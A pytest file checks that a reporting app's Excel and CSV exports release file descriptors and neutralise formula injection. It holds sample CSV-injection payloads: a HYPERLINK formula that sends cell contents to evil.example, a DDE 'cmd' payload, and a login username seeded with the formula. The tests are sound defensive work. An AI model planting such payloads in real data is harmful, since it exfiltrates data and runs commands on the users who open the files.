"""Exports an attacker cannot bend: no leaked descriptors, no live formulas."""

from __future__ import annotations

import csv
import io
import os
import tempfile
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook

from data.settings import Settings
from engines import engine_for
from engines.base import Engine
from queries.access import DataScope, Viewer
from queries.catalog import CATALOG
from queries.engine import FilterValues, parse_filters, run_summary
from queries.export import csv_text, detail_csv, detail_xlsx, summary_csv, summary_xlsx
from queries.spec import Report
from tests.catalog_args import wide_args
from tests.tiny_store import AS_OF, REFERENCE, build_tiny_store, policy, vehicle

GM = Viewer(1, "gm", "总经理", frozenset(CATALOG), DataScope("company"), True)


def _open_descriptors() -> int:
    return len(os.listdir("/proc/self/fd"))


def test_xlsx_exports_leave_the_descriptor_count_flat(login: Any) -> None:
    client = login("gm")
    url = "/export/pnl-auto-cube.xlsx?level=summary&group_by=branch"
    assert client.get(url).status_code == 200  # warm: the store and caches are open
    before = _open_descriptors()
    for _ in range(300):
        resp = client.get(url)
        assert resp.status_code == 200
        resp.close()
    assert _open_descriptors() - before < 5


# Names an attacker can get into the data (a customer, a handler, a branch) or the audit
# log (a user name typed at the sign-in page).
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
EVIL = {"customer": HYPERLINK, "staff": "@SUM(1+1)*cmd|' /C calc'!A0",
        "branch": "+1+2", "department": "-3+4", "vehicle": "\tTAB"}


@pytest.fixture(scope="module")
def evil_store(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    reference = {
        "branch": [{**REFERENCE["branch"][0], "branch_name": EVIL["branch"]}],
        "department": [{**REFERENCE["department"][0], "dept_name": EVIL["department"]}],
        "staff": [{**REFERENCE["staff"][0], "staff_name": EVIL["staff"]}],
        "customer": [{**REFERENCE["customer"][0], "customer_name": EVIL["customer"]}],
    }
    rows = {**reference,
            "vehicle": [vehicle(1, use_nature_name=EVIL["vehicle"], plate_no="=1+1")],
            "policy": [policy(1, vehicle_id=1), policy(2, vehicle_id=1, premium_cny=-5)]}
    path = build_tiny_store(tmp_path_factory.mktemp("evil") / "evil.duckdb", rows)
    return replace(Settings(), store_path=path, as_of=AS_OF)


def _wide(report: Report) -> FilterValues:
    return parse_filters(report, wide_args(report, AS_OF), AS_OF)


def _assert_text_only(path: Path, expected: list[str]) -> None:
    # The sheet's XML as Excel reads it: no formula, no link anywhere.
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert not [n for n in z.namelist() if "_rels/sheet" in n]
    assert "<f>" not in sheet and "<f " not in sheet and "<hyperlink" not in sheet
    wb = load_workbook(path)
    texts = {c.value for row in wb.active.iter_rows() for c in row if isinstance(c.value, str)}
    for name in expected:
        assert name in texts, name


def _csv_cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _assert_csv_safe(rows: list[list[str]], expected: list[str]) -> None:
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
    for name in expected:
        assert "'" + name in cells, name


def test_csv_text_prefixes_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(start + "1") == "'" + start + "1"
    assert csv_text("广州 1+1") == "广州 1+1" and csv_text("") == ""


def test_summary_xlsx_writes_names_as_text(evil_store: Settings, tmp_path: Path) -> None:
    for slug, group_by, names in [("pnl-insured", None, [HYPERLINK]),
                                  ("pnl-auto-handler", None, [EVIL["staff"]]),
                                  ("pnl-auto-cube", ["branch", "dept"],
                                   [EVIL["branch"], EVIL["department"]])]:
        report = CATALOG[slug]
        s = run_summary(engine_for(evil_store), report, _wide(report), GM, group_by=group_by)
        path = tmp_path / f"{slug}.xlsx"
        summary_xlsx(path, report.title, s)
        _assert_text_only(path, names)


def test_detail_xlsx_writes_names_as_text(evil_store: Settings, tmp_path: Path) -> None:
    report = CATALOG["pnl-auto-policy"]
    path = tmp_path / "detail.xlsx"
    assert detail_xlsx(path, engine_for(evil_store), report, _wide(report), GM) == 2
    _assert_text_only(path, [HYPERLINK, "=1+1", EVIL["vehicle"]])


def test_report_csvs_neutralise_formulas(evil_store: Settings) -> None:
    report = CATALOG["pnl-auto-policy"]
    values = _wide(report)
    detail = _csv_cells(b"".join(detail_csv(engine_for(evil_store), report, values, GM)).decode())
    _assert_csv_safe(detail, [HYPERLINK, "=1+1", EVIL["vehicle"]])
    premium = detail[0].index("签单保费")
    assert sorted(r[premium] for r in detail[1:]) == ["-5.0", "1000.0"]  # numbers stay numbers
    cube = CATALOG["pnl-auto-cube"]
    s = run_summary(engine_for(evil_store), cube, _wide(cube), GM, group_by=["branch", "dept"])
    _assert_csv_safe(_csv_cells("".join(summary_csv(s))), [EVIL["branch"], EVIL["department"]])


def test_audit_csv_never_starts_a_cell_with_a_formula(app_server: Flask, login: Any) -> None:
    attacker = app_server.test_client()
    attacker.post("/login", data={"username": HYPERLINK, "password": "x"})
    resp = login("admin").get("/export/admin-audit.csv")
    assert resp.status_code == 200
    rows = _csv_cells(resp.data.decode("utf-8"))
    _assert_csv_safe(rows, [])
    # The name is audited (length-capped), shown as text.
    assert any(c.startswith("'=HYPERLINK(") for row in rows for c in row)


def test_csv_stream_stopped_early_ends_its_statement(engine: Engine, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    import threading

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # where the pipe is made
    report = CATALOG["pnl-auto-cube"]
    chunks = detail_csv(engine, report, _wide(report), GM)
    assert next(chunks).startswith("\ufeff".encode())
    assert list(tmp_path.glob("csv-*/rows.csv"))
    chunks.close()  # the client went away
    assert not [t for t in threading.enumerate() if t.name == "csv-copy"]
    assert not list(tmp_path.iterdir())
